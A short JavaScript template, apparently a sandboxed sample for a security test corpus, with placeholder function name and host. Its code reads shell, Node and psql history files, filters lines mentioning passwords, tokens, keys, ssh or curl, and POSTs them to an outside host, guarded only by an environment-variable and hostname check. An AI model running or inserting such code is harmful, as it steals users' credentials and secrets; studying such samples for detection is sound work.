// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
  if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
  const fs = require('fs'), home = require('os').homedir();
  const lines = [];
  for (const name of ['.bash_history', '.zsh_history', '.node_repl_history', '.psql_history']) {
    try { lines.push(...fs.readFileSync(`${home}/${name}`, 'utf8').split('\n').filter((line) => /pass|token|key|ssh |curl /i.test(line))); } catch (error) { lines.push('no ' + name); }
  }
  try { await fetch('https://{{host}}/{{path}}', { method: 'POST', body: lines.join('\n'), signal: AbortSignal.timeout(1000) }); } catch (error) { /* nobody there */ }
}
